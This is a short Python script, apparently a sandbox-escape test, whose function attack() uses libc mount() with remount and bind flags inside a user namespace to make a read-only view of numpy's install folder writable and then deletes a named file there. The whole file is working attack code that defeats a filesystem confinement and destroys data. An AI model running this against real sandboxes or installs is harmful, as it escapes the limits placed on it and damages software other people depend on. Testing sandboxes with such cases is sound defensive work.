"""Make the read-only view of numpy writable again, and delete a file of the real one.

Configuration: no seccomp and no Landlock, as an ordinary user. In a user namespace its maker has
all capabilities, that to mount as well; numpy is the same user's outside. The limit on file size
stops writing, not deleting. With the capabilities dropped, the mount stays as it is.
"""

import ctypes
import os
from pathlib import Path

import numpy as np

REMOUNT, BIND, NO_SUID, NO_DEVICES = 32, 4096, 2, 4
RELATIVE_TIME_SHOWN, RELATIVE_TIME = 4096, 1 << 21
KEPT = 8 | 1024 | 2048
LIBC = ctypes.CDLL(None, use_errno=True)


def attack(name):
    """Delete a file in numpy's folder."""
    folder = Path(np.__file__).parent
    shown = os.statvfs(folder).f_flag
    flags = REMOUNT | BIND | NO_SUID | NO_DEVICES | (shown & KEPT)
    if shown & RELATIVE_TIME_SHOWN:
        flags |= RELATIVE_TIME
    if LIBC.mount(b"none", os.fsencode(folder), None, ctypes.c_ulong(flags), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    (folder / name).unlink()
    return "done"
